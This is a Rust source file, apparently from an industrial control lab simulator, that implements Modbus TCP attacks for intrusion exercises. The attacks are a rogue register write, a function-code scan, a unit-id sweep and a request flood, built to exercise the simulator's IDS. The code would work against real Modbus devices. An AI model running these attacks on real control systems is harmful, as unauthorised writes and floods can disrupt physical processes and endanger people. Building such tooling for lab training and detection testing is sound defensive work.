//! The intrusion pack: attacks a second Modbus TCP client (tokio-modbus)
//! plays against a station behind the gateway's back, for the lab's
//! intrusion exercises. What the simulator's own IDS should see is in `ids`.

use std::borrow::Cow;
use std::net::SocketAddr;
use std::time::Duration;

use serde::Deserialize;
use tokio_modbus::client::{Client, Context};
use tokio_modbus::slave::SlaveContext;
use tokio_modbus::{ExceptionResponse, ProtocolError, Request, Response, Slave};
use tokio_util::sync::CancellationToken;

/// How long the attacker waits for each answer.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(1);

/// Pace of a scan and a sweep: one request every 20 ms (50 per second,
/// below the flood threshold of `ids`, so each attack shows as itself).
pub const PROBE_PACE: Duration = Duration::from_millis(20);

/// Function codes a scan leaves out: the writes (FC5, FC6, FC15, FC16,
/// FC22, FC23), so a scan changes nothing in the device.
pub const SCAN_SKIPS: [u8; 6] = [5, 6, 15, 16, 22, 23];

/// One attack of the intrusion pack. Serde: tagged by `kind` (snake_case),
/// unknown fields refused.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
pub enum Attack {
    /// FC06 of `value` into holding register `address` of `unit` (a write
    /// the gateway did not make).
    RogueWrite {
        /// Unit id.
        unit: u8,
        /// 0-based holding register.
        address: u16,
        /// Raw register value.
        value: u16,
    },
    /// Every function code 1..=127 but the writes ([`SCAN_SKIPS`]), in an
    /// order shuffled by the seed, each as `fc 00 00 00 01` to `unit` (typed
    /// reads for FC1–FC4), one every [`PROBE_PACE`].
    FunctionCodeScan {
        /// Unit id.
        unit: u8,
    },
    /// FC03 of register 0 to every unit id `from..=to`, in order, one every
    /// [`PROBE_PACE`].
    UnitSweep {
        /// First unit id.
        from: u8,
        /// Last unit id.
        to: u8,
    },
    /// FC03 of one register (address drawn from the seed in 0..16) to
    /// `unit`, `rate_per_s` requests per second until stopped.
    RequestFlood {
        /// Unit id.
        unit: u8,
        /// Requests per second (1..).
        rate_per_s: u32,
    },
}

/// What an attack did.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize)]
pub struct AttackReport {
    /// Requests sent.
    pub requests: u64,
    /// Answers received (exceptions included).
    pub answers: u64,
    /// Answers that were Modbus exceptions.
    pub exceptions: u64,
    /// Requests without an answer within 1 s, or whose connection failed.
    pub timeouts: u64,
    /// Function codes answered with data or an exception other than 01
    /// (scan: what the device serves).
    pub served_codes: Vec<u8>,
}

/// What became of one request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    Answer,
    Exception(u8),
    NoAnswer,
}

impl AttackReport {
    /// Counts the outcome of one request.
    fn count(&mut self, o: Outcome) -> Outcome {
        self.requests += 1;
        match o {
            Outcome::Answer => self.answers += 1,
            Outcome::Exception(_) => {
                self.answers += 1;
                self.exceptions += 1;
            }
            Outcome::NoAnswer => self.timeouts += 1,
        }
        o
    }
}

/// One request with the timeout; a failed connection is replaced. An
/// answer tokio-modbus files as a function code mismatch (an exception to
/// a request it sent as custom, FC8 answered as "Diagnostics") is still an
/// answer.
async fn call(ctx: &mut Option<Context>, target: SocketAddr, unit: u8, req: Request<'static>) -> Outcome {
    if ctx.is_none() {
        *ctx = tokio::time::timeout(ANSWER_TIMEOUT, tokio_modbus::client::tcp::connect_slave(target, Slave(unit)))
            .await
            .ok()
            .and_then(|c| c.ok());
    }
    let Some(c) = ctx.as_mut() else { return Outcome::NoAnswer };
    c.set_slave(Slave(unit));
    let of = |r: Result<Response, ExceptionResponse>| match r {
        Ok(_) => Outcome::Answer,
        Err(e) => Outcome::Exception(u8::from(e.exception)),
    };
    match tokio::time::timeout(ANSWER_TIMEOUT, c.call(req)).await {
        Ok(Ok(Ok(_))) => Outcome::Answer,
        Ok(Ok(Err(code))) => Outcome::Exception(u8::from(code)),
        Ok(Err(tokio_modbus::Error::Protocol(ProtocolError::FunctionCodeMismatch { result, .. }))) => of(result),
        _ => {
            *ctx = None; // a timeout or a transport error: the next request reconnects
            Outcome::NoAnswer
        }
    }
}

/// The scan's request for function code `fc`: the typed request for the
/// reads tokio-modbus knows (it checks the answer's type), else `fc 00 00 00 01`.
fn scan_request(fc: u8) -> Request<'static> {
    match fc {
        1 => Request::ReadCoils(0, 1),
        2 => Request::ReadDiscreteInputs(0, 1),
        3 => Request::ReadHoldingRegisters(0, 1),
        4 => Request::ReadInputRegisters(0, 1),
        _ => Request::Custom(fc, Cow::Owned(vec![0, 0, 0, 1])),
    }
}

/// Plays `attack` against the Modbus TCP server at `target` as a second
/// client; `seed` orders the scan and picks the flood's register; `stop`
/// ends it early (a flood runs until it). Errors: the first connection
/// fails.
pub async fn attack(target: SocketAddr, attack: Attack, seed: u64, stop: CancellationToken) -> anyhow::Result<AttackReport> {
    let first_unit = match &attack {
        Attack::RogueWrite { unit, .. } | Attack::FunctionCodeScan { unit } | Attack::RequestFlood { unit, .. } => *unit,
        Attack::UnitSweep { from, .. } => *from,
    };
    let ctx = tokio::time::timeout(ANSWER_TIMEOUT * 5, tokio_modbus::client::tcp::connect_slave(target, Slave(first_unit)))
        .await
        .map_err(|_| anyhow::anyhow!("attack: connecting to {target} timed out"))?
        .map_err(|e| anyhow::anyhow!("attack: cannot connect to {target}: {e}"))?;
    let mut ctx = Some(ctx);
    let mut rng = fastrand::Rng::with_seed(seed);
    let mut report = AttackReport::default();
    tracing::info!(%target, ?attack, seed, "simulator intrusion pack: attack started");
    match attack {
        Attack::RogueWrite { unit, address, value } => {
            report.count(call(&mut ctx, target, unit, Request::WriteSingleRegister(address, value)).await);
        }
        Attack::FunctionCodeScan { unit } => {
            let mut codes: Vec<u8> = (1..=127u8).filter(|c| !SCAN_SKIPS.contains(c)).collect();
            rng.shuffle(&mut codes);
            let mut iv = tokio::time::interval(PROBE_PACE);
            for fc in codes {
                tokio::select! {
                    _ = stop.cancelled() => break,
                    _ = iv.tick() => {}
                }
                let o = report.count(call(&mut ctx, target, unit, scan_request(fc)).await);
                if !matches!(o, Outcome::NoAnswer | Outcome::Exception(1)) {
                    report.served_codes.push(fc);
                }
            }
            report.served_codes.sort_unstable();
        }
        Attack::UnitSweep { from, to } => {
            let mut iv = tokio::time::interval(PROBE_PACE);
            for unit in from..=to {
                tokio::select! {
                    _ = stop.cancelled() => break,
                    _ = iv.tick() => {}
                }
                report.count(call(&mut ctx, target, unit, Request::ReadHoldingRegisters(0, 1)).await);
            }
        }
        Attack::RequestFlood { unit, rate_per_s } => {
            let address = rng.u16(0..16);
            let mut iv = tokio::time::interval(Duration::from_secs(1) / rate_per_s.max(1));
            iv.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
            loop {
                tokio::select! {
                    _ = stop.cancelled() => break,
                    _ = iv.tick() => {}
                }
                report.count(call(&mut ctx, target, unit, Request::ReadHoldingRegisters(address, 1)).await);
            }
        }
    }
    tracing::info!(%target, ?report, "simulator intrusion pack: attack ended");
    Ok(report)
}
